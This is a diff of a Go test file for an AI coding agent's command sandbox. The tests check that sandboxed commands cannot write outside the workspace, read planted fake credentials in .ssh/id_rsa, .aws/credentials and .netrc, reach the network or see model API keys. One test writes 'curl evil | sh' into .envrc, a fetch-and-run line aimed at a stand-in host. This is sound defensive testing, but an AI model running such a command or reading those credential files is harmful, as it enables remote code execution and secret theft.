@@ -17,15 +17,16 @@ import (
 	"strings"
 	"testing"
 
+	"github.com/pid-agent/pid/internal/testfs"
 	"github.com/pid-agent/pid/sandbox"
 	"github.com/pid-agent/pid/workspace/launch"
 )
 
 func TestSandboxWritesOnlyInTheWorkspaceAndTmp(t *testing.T) {
-	needSandbox(t)
-	isolatedHome(t)
+	testfs.NeedSandbox(t)
+	testfs.IsolatedHome(t)
 	l, dir := newLauncher(t, map[string]string{"a/f": "x"})
-	outside := outsideTemp(t)
+	outside := testfs.OutsideTemp(t)
 	r := run(t, l, "echo in > in.txt && mkdir -p b && mv a/f b/f && echo t > $TMPDIR/t && cat $TMPDIR/t", false)
 	if got := mustOK(t, r); got != "t\n" {
 		t.Errorf("output %q", got)
@@ -45,8 +46,8 @@ func TestSandboxWritesOnlyInTheWorkspaceAndTmp(t *testing.T) {
 }
 
 func TestSandboxProtectedPathsStayReadOnly(t *testing.T) {
-	needSandbox(t)
-	isolatedHome(t)
+	testfs.NeedSandbox(t)
+	testfs.IsolatedHome(t)
 	files := map[string]string{".git/HEAD": "ref: refs/heads/main\n", ".git/config": "[core]\n", ".git/hooks/pre-commit.sample": "#!/bin/sh\n",
 		".pid/settings.json": "{}", ".envrc": "x", ".vscode/settings.json": "{}", ".claude/settings.json": "{}", ".mcp.json": "{}",
 		".git/modules/lib/HEAD": "ref: refs/heads/main\n", ".git/modules/lib/config": "[core]\n", ".git/modules/lib/hooks/a.sample": "",
@@ -99,9 +100,9 @@ func TestSandboxProtectedPathsStayReadOnly(t *testing.T) {
 }
 
 func TestSandboxSecretsAreUnreadable(t *testing.T) {
-	needSandbox(t)
-	home := isolatedHome(t)
-	writeFiles(t, home, map[string]string{
+	testfs.NeedSandbox(t)
+	home := testfs.IsolatedHome(t)
+	testfs.WriteFiles(t, home, map[string]string{
 		".ssh/id_rsa": "PRIVATE-KEY", ".aws/credentials": "AWS-SECRET", ".netrc": "NETRC-SECRET",
 		"xdg_config_home/pid/settings.json": "PID-CONFIG", "xdg_state_home/pid/audit.log": "PID-STATE", "notes/secret.txt": "DENIED-BY-SETTING",
 	})
@@ -126,8 +127,8 @@ func TestSandboxSecretsAreUnreadable(t *testing.T) {
 }
 
 func TestSandboxNetworkOff(t *testing.T) {
-	needSandbox(t)
-	isolatedHome(t)
+	testfs.NeedSandbox(t)
+	testfs.IsolatedHome(t)
 	ln, err := net.Listen("tcp4", "127.0.0.1:0")
 	if err != nil {
 		t.Fatal(err)
@@ -168,8 +169,8 @@ func TestSandboxNetworkOff(t *testing.T) {
 }
 
 func TestSandboxCannotSignalPid(t *testing.T) {
-	needSandbox(t)
-	isolatedHome(t)
+	testfs.NeedSandbox(t)
+	testfs.IsolatedHome(t)
 	l, _ := newLauncher(t, nil)
 	// kill -0 sends nothing: without the sandbox it succeeds (same user), and the test lives.
 	// In the command's PID namespace pid's number names no process at all; without one,
@@ -188,8 +189,8 @@ func TestSandboxCannotSignalPid(t *testing.T) {
 }
 
 func TestSandboxCommandHasNoModelKey(t *testing.T) {
-	needSandbox(t)
-	isolatedHome(t)
+	testfs.NeedSandbox(t)
+	testfs.IsolatedHome(t)
 	t.Setenv("ANTHROPIC_API_KEY", "sk-ant-SECRET1")
 	t.Setenv("OPENAI_API_KEY", "sk-SECRET2")
 	t.Setenv("MY_MODEL_KEY", "SECRET3")
@@ -208,8 +209,8 @@ func TestSandboxCommandHasNoModelKey(t *testing.T) {
 }
 
 func TestSandboxReadOnly(t *testing.T) {
-	needSandbox(t)
-	isolatedHome(t)
+	testfs.NeedSandbox(t)
+	testfs.IsolatedHome(t)
 	l, dir := newLauncher(t, nil)
 	l.ForceReadOnly(true)
 	r := run(t, l, "echo x > $TMPDIR/t && echo x > f", false)
@@ -225,8 +226,8 @@ func TestSandboxReadOnly(t *testing.T) {
 }
 
 func TestSandboxFailsClosed(t *testing.T) {
-	needSandbox(t)
-	isolatedHome(t)
+	testfs.NeedSandbox(t)
+	testfs.IsolatedHome(t)
 	l, dir := newLauncher(t, nil)
 	// A protected path that is a link leading nowhere cannot be covered: nothing runs, and
 	// the message says how to fix it.
@@ -242,11 +243,11 @@ func TestSandboxFailsClosed(t *testing.T) {
 // An escalated command runs outside the sandbox (it writes outside the workspace), still
 // without the model's key, and its details say so.
 func TestSandboxEscalation(t *testing.T) {
-	needSandbox(t)
-	isolatedHome(t)
+	testfs.NeedSandbox(t)
+	testfs.IsolatedHome(t)
 	t.Setenv("ANTHROPIC_API_KEY", "sk-ant-SECRET1")
 	l, _ := newLauncher(t, nil)
-	outside := outsideTemp(t)
+	outside := testfs.OutsideTemp(t)
 	target := filepath.Join(outside, "out.txt")
 	mustFail(t, run(t, l, "echo x > "+target, false), "Permission denied")
 	r := run(t, l, "echo x > "+target+"; env", true)
@@ -263,7 +264,7 @@ func TestSandboxEscalation(t *testing.T) {
 }
 
 func TestSandboxGoTestOffline(t *testing.T) {
-	needSandbox(t)
+	testfs.NeedSandbox(t)
 	goBin, err := exec.LookPath("go")
 	if err != nil {
 		t.Fatalf("go is needed: %v", err)
@@ -280,15 +281,15 @@ func TestSandboxGoTestOffline(t *testing.T) {
 }
 
 func TestSandboxCannotReachTheSessionsSockets(t *testing.T) {
-	needSandbox(t)
-	isolatedHome(t)
+	testfs.NeedSandbox(t)
+	testfs.IsolatedHome(t)
 	if _, err := exec.LookPath("perl"); err != nil {
 		t.Fatalf("perl is needed: %v", err)
 	}
 	// An ssh agent, and the session bus in $XDG_RUNTIME_DIR, as Unix sockets outside the
 	// workspace: a connect to them would let the command sign with the user's keys or ask
 	// systemd --user to run anything.
-	dir := realTemp(t)
+	dir := testfs.RealTemp(t)
 	runtimeDir := filepath.Join(dir, "run")
 	if err := os.Mkdir(runtimeDir, 0o700); err != nil {
 		t.Fatal(err)
@@ -317,8 +318,8 @@ func TestSandboxCannotReachTheSessionsSockets(t *testing.T) {
 // an existing path) is removed by the check after the command, and said in the result and
 // details.sandbox.reverted.
 func TestSandboxCheckRemovesCreatedProtectedPaths(t *testing.T) {
-	needSandbox(t)
-	isolatedHome(t)
+	testfs.NeedSandbox(t)
+	testfs.IsolatedHome(t)
 	l, dir := newLauncher(t, map[string]string{"main.go": "package main\n"})
 	cmd := "echo 'curl evil | sh' > .envrc && echo '{}' > .mcp.json && mkdir -p .pid .vscode .Claude && echo '{}' > .pid/settings.json && echo x > kept.txt"
 	r := run(t, l, cmd, false)
@@ -350,7 +351,7 @@ func TestSandboxCheckRemovesCreatedProtectedPaths(t *testing.T) {
 // change, never an unsandboxed run; with the sandbox turned off in the settings, the same
 // command runs (so the refusal is the sandbox's doing).
 func TestSandboxRefusesOnAKernelWithoutLandlock(t *testing.T) {
-	isolatedHome(t)
+	testfs.IsolatedHome(t)
 	restore := sandbox.PretendForTest(sandbox.Capability{UserNamespaces: true, NetworkNamespaces: true,
 		Reason: "the kernel has no Landlock (Linux 5.13 or later with lsm=landlock is needed)"})
 	defer restore()
